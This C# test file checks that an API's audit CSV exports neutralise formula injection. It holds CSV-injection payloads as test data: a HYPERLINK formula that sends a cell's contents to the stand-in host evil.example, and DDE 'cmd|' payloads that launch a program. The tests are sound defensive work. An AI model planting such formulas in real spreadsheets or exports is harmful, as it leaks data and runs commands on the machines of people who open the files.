using System.Net;
using Control.Api.Tests.Support;
using Control.Domain.Contracts;
using Control.Domain.Sessions;

namespace Control.Api.Tests.Attacks;

/// <summary>
/// Attacker: a technician (who types a session's justification), an agent (which reports paths and reasons) or any operator
/// (who types a change's reason). Threat: CSV injection: the text is a formula (<c>=HYPERLINK(...)</c>, <c>@SUM</c>, <c>+cmd|</c>)
/// that the auditor's spreadsheet runs when it opens the export, leaking other cells or running commands. Every text cell
/// that begins with <c>= + - @</c>, a tab or a carriage return is exported with a leading <c>'</c>.
/// </summary>
[Collection("api")]
public class CsvInjectionTests(ApiFixture api)
{
    private const string Hyperlink = "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"ticket 42\")";

    [Fact]
    public async Task SessionsExport_JustificationThatIsAFormula_IsNeutralized()
    {
        var org = await api.NewOrganization();
        using var agent = await org.Agent("desk");
        var session = Guid.CreateVersion7();
        var requested = new SessionRequested(
            session, agent.Enrolment.ClientId, "alice@" + org.Slug, "01AB", "@192.0.2.7:50000", "Tls13", "TLS_AES_256_GCM_SHA384", Hyperlink, DateTimeOffset.UtcNow);
        var denied = new SessionDenied(session, agent.Enrolment.ClientId, "alice@" + org.Slug, "192.0.2.7:50000", "+cmd|' /C calc'!A0", DateTimeOffset.UtcNow);
        Assert.Equal(HttpStatusCode.OK, (await agent.PostSessionEvents(requested, denied)).StatusCode);

        var rows = Rfc4180.Read(await Csv(org, "/audit/sessions/export?format=csv"));

        var row = Assert.Single(rows.Skip(1));
        Assert.Equal(("'" + Hyperlink, "'@192.0.2.7:50000", "'+cmd|' /C calc'!A0"), (row[11], row[10], row[13]));
    }

    [Fact]
    public async Task EventsExport_ReasonThatIsAFormula_IsNeutralized()
    {
        var org = await api.NewOrganization();
        var reason = "-2+3+cmd|' /C calc'!A0";
        await org.Owner.PostOk<InviteOperatorResponse>("/operators", new InviteOperatorRequest("erin", "technician", reason));
        var at = "@SUM(A1:A9)";
        await org.Owner.PostOk<InviteOperatorResponse>("/operators", new InviteOperatorRequest("frank", "technician", at));

        var rows = Rfc4180.Read(await Csv(org, "/audit/events/export?format=csv&type=OperatorInvited"));

        Assert.Equal(["'" + reason, "'" + at], rows.Skip(1).Select(r => r[5]).Order(StringComparer.Ordinal));
        Assert.All(rows.Skip(1), r => Assert.StartsWith("{", r[10], StringComparison.Ordinal));
    }

    private static async Task<string> Csv(Organization org, string path)
    {
        var response = await org.Owner.Get(path);
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{(int)response.StatusCode}: {body}");
        return body;
    }
}
